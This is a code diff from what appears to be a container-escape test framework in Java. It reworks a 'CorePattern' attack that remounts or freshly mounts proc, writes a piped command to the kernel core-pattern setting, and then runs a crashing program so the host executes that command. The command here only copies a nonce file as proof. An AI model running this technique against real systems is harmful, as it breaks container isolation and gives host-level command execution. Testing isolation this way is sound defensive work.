@@ -36,14 +36,18 @@ record CorePattern() implements Escape {
 
     @Override
     public List<Attack> ways(Scene scene) {
-        return List.of(attacker -> crash(attacker, "/proc", scene), attacker -> {
-            attacker.note("another proc, without anything mounted over it").mount("proc", "/mnt", "proc", null);
-            crash(attacker, "/mnt", scene);
-        }, attacker -> {
-            attacker.note("it was only mounted read-only")
-                    .mount(null, "/proc/sys", null, null, MountFlag.MS_REMOUNT, MountFlag.MS_BIND);
-            crash(attacker, "/proc", scene);
-        });
+        return List.of(
+                attacker -> crash(attacker, "/proc", scene),
+                attacker -> {
+                    attacker.note("another proc, without anything mounted over it")
+                            .mount("proc", "/mnt", "proc", null);
+                    crash(attacker, "/mnt", scene);
+                },
+                attacker -> {
+                    attacker.note("it was only mounted read-only")
+                            .mount(null, "/proc/sys", null, null, MountFlag.MS_REMOUNT, MountFlag.MS_BIND);
+                    crash(attacker, "/proc", scene);
+                });
     }
 
     private static void crash(Attacker attacker, String proc, Scene scene) {
@@ -53,7 +57,9 @@ record CorePattern() implements Escape {
                         "|/bin/cp %s %s"
                                 .formatted(
                                         scene.stake().nonceFile(), scene.stake().left()));
-        attacker.note("a program that crashes").execve(List.of("/crash"));
+        int program = attacker.create("/tmp/crash");
+        attacker.sendBytes(program, CrashingProgram.bytes()).close(program);
+        attacker.note("a program that crashes").execve(List.of("/tmp/crash"));
     }
 
     @Override
